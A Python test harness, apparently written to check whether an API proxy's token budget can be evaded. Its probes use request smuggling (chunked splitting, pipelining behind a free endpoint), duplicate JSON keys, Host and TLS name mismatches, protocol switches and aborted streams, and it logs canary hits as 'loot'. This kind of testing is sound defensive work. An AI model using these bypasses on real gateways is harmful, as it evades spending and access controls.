import contextlib
import json
import os
import subprocess
from concurrent.futures import ThreadPoolExecutor
from urllib.parse import urlsplit

from keys import KEY, request, tls
from rows import CANARY, connect, each, mark, note, seconds, talk

JSON = f"Content-Type: application/json\r\nx-api-key: {KEY}\r\n"
BASE = urlsplit(os.environ["ANTHROPIC_BASE_URL"])
# More than six hundred tokens, whoever counts them.
LONG = "a tale of two budgets " * 150
REAL = ("api.anthropic.com", "/v1/messages")


def body_of(row, text, **more):
    return json.dumps({"model": f"m-{row}", "max_tokens": 9, "messages": [{"role": "user", "content": text}], **more}).encode()


def local(row, how):
    model = {"model": f"late-{row}"} if how.startswith("abort") else {}
    path = "/v1/chat/completions" if how.startswith("chat") else "/v1/messages"
    more = {"stream": True, **model, **({"stream_options": {"include_usage": False}} if how == "chat-without" else {})}

    def say(text, end=None, patience=5):
        return ask_service(path, body_of(row, text, **more), end, patience)

    def spend(_):
        say(LONG, b"message_start" if how == "abort" else None, 0.2 if how == "abort-unanswered" else 5)

    with ThreadPoolExecutor(8 if how == "at-once" else 1) as pool:
        list(pool.map(spend, range(3)))
    # As long as the others: a budget may have room for a short one.
    print(row, say(LONG + mark(row))[-300:])


def ask_service(path, body, end, patience):
    """Until the server has ended, or has said `end`, or has not for so long said more."""
    head = f"POST {path} HTTP/1.1\r\nHost: localhost:11434\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\nConnection: close\r\n\r\n"
    answer = b""
    with connect("localhost", 11434, 3) as connection:
        connection.sendall(head.encode() + body)
        connection.settimeout(patience)
        with contextlib.suppress(TimeoutError):
            while not (end and end in answer) and (chunk := connection.recv(65536)):
                answer += chunk
    return answer


def spend(row):
    for _ in range(2):
        request(*REAL, JSON, body_of(row, "spent"))


def spelled(row, host, path):
    head = f"{JSON}Host: {host}\r\n"
    return request(host, path, head, body_of(row, mark(row)), connection=tls("api.anthropic.com", host.rstrip(".")))


def twice(row, host, path):
    return request(host, path, JSON, b'{"model": "m-free", ' + body_of(row, mark(row))[1:])


def chunked(row, host, path):
    body = body_of(row, mark(row))
    start = body.index(b"messages")
    pieces = b"".join(b"%x\r\n%s\r\n" % (len(piece), piece) for piece in (body[:9], body[9:start], body[start:]))
    return request(host, path, f"{JSON}Transfer-Encoding: chunked\r\n", pieces + b"0\r\n\r\n")


def pipelined(row, host, path):
    free, body = b'{"model": "m-free", "messages": []}', body_of(row, mark(row))
    both = b"".join(f"POST {where} HTTP/1.1\r\nHost: {host}\r\n{JSON}Content-Length: {len(each)}\r\n\r\n".encode() + each for where, each in ((f"{path}/count_tokens", free), (path, body)))
    return talk(tls(host), both, 1)


def http2(row, host, path):
    return curl(f"https://{host}{path}", row, "--http2")


def base_url(row, _, path):
    return curl(f"{BASE.scheme}://{BASE.netloc}{path}", row)


def clear(row, host, path):
    return curl(f"http://{host}{path}", row)


def curl(url, row, *options):
    command = ["curl", "-sk", "-m", seconds(5), *options, "-H", "content-type: application/json", "-H", f"x-api-key: {KEY}", "-d", body_of(row, mark(row)), url]
    return subprocess.run(command, capture_output=True, timeout=9).stdout


WAYS = {"spelled": spelled, "twice": twice, "chunked": chunked, "pipelined": pipelined, "http2": http2, "base-url": base_url, "clear": clear}


def perform(row, way, *columns):
    if way == "local":
        return local(row, *columns)
    spend(row)
    print(row, WAYS[way](row, *columns)[-300:])


def use_grant(row):
    answer = request(*REAL, JSON, body_of(row, mark(row)))
    print(row, answer)
    if CANARY.encode() in answer:
        note("loot", mark(row) + "\n")


each(perform, 8, use_grant)
